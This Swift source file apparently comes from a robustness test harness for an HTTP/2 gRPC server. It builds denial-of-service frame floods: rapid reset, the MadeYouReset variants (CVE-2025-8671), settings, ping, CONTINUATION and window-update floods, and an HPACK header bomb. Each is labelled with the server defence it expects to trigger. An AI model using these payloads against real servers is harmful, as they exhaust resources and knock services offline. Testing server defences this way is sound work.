internal import RawHTTP2

/// Frames that make work and are no call.
extension Attack {
  private static let method = "/grpc.testing.TestService/UnaryCall"
  private static let call = HeaderBlock.request(
    "POST", method, [("te", "trailers"), ("content-type", "application/grpc")])

  /// Stream numbers of one round; a connection ends long before they do.
  private static func streams(_ round: Int, _ count: Int) -> [UInt32] {
    (0..<count).map { UInt32(2 * (round * count + $0) + 1) }
  }

  private static func times(_ count: Int, _ frame: RawFrame) -> [UInt8] {
    let bytes = frame.bytes
    return (0..<count).flatMap { _ in bytes }
  }

  /// A frame many times over, and a stream before it where it needs one.
  private static func repeated(
    _ defence: String, _ frame: RawFrame, onStream: Bool = false
  ) -> Attack {
    let many = times(1000, frame)
    let opening = RawFrame.headers(call, .endHeaders, on: 1).bytes
    return .flood(defence) { _, round in onStream && round == 0 ? opening + many : many }
  }

  static let rapidReset = flood("resets") { _, round in
    streams(round, 200).flatMap {
      RawFrame.headers(call, .endHeaders, on: $0).bytes + RawFrame.reset(.cancel, on: $0).bytes
    }
  }

  static let settings = repeated("settings", .settings())
  static let pings = repeated("pings", .ping())
  static let priorities = repeated("priorities", .priority(on: 1))
  static let emptyData = repeated("empty_data", .data(""), onStream: true)
  static let windowUpdates = repeated(
    "window_updates", .windowUpdate(1, on: 1), onStream: true)

  static let continuations = flood("continuations") { _, round in
    let start = round == 0 ? RawFrame.headers(call, [], on: 1).bytes : []
    return start + times(1000, .continuation([], on: 1))
  }

  /// Pings whose acknowledgements nobody reads.
  static let unreadAnswers = flood("pings", reads: false) { _, _ in times(1000, .ping()) }

  /// The six ways of the paper (CVE-2025-8671), one after the other.
  static let madeYouReset: Attack = {
    var attack = flood("resets") { turn, round in
      streams(round, 100).flatMap { stream in
        let start = RawFrame.headers(call, turn % 6 < 4 ? .endHeaders : .whole, on: stream).bytes
        return start + primitive(turn % 6, stream).bytes
      }
    }
    attack.defences.append("protocol_error")
    return attack
  }()

  private static func primitive(_ number: Int, _ stream: UInt32) -> RawFrame {
    switch number {
    case 0: .windowUpdate(0, on: stream)
    case 1: .windowUpdate(UInt32(Int32.max), on: stream)
    case 2: RawFrame(.priority, on: stream, [0, 0, 0, 0])
    case 3: .priority(on: stream, dependingOn: stream)
    case 4: .headers(call, .whole, on: stream)
    default: .data("late", on: stream)
    }
  }

  // MARK: Header lists

  /// A header list in as many frames as it needs, call after call.
  private static func lists(_ defence: String, _ block: [UInt8]) -> Attack {
    .flood(defence) { _, round in
      let stream = UInt32(2 * round + 1)
      let whole = call + block
      let pieces = stride(from: 0, to: whole.count, by: 1 << 14).map {
        Array(whole[$0..<min($0 + 1 << 14, whole.count)])
      }
      return pieces.enumerated().flatMap { index, piece in
        let flags: RawFrame.Flags = index == pieces.count - 1 ? .endHeaders : []
        return index == 0
          ? RawFrame.headers(piece, flags.union(.endStream), on: stream).bytes
          : RawFrame.continuation(piece, flags, on: stream).bytes
      }
    }
  }

  /// An entry of 4 KB, and 4,096 references to it of a byte each.
  static let hpackBomb = lists(
    "header_bytes",
    HeaderBlock.literal("bomb", String(repeating: "b", count: 4000), .incremental)
      + [UInt8](repeating: HeaderBlock.indexed(62)[0], count: 4096))
  static let emptyHeaders = lists(
    "header_fields", (0..<100_000).flatMap { _ in HeaderBlock.literal("e", "") })
  static let cookieCrumbs = lists(
    "header_fields", (0..<10_000).flatMap { _ in HeaderBlock.literal(name: 32, "c") })
}
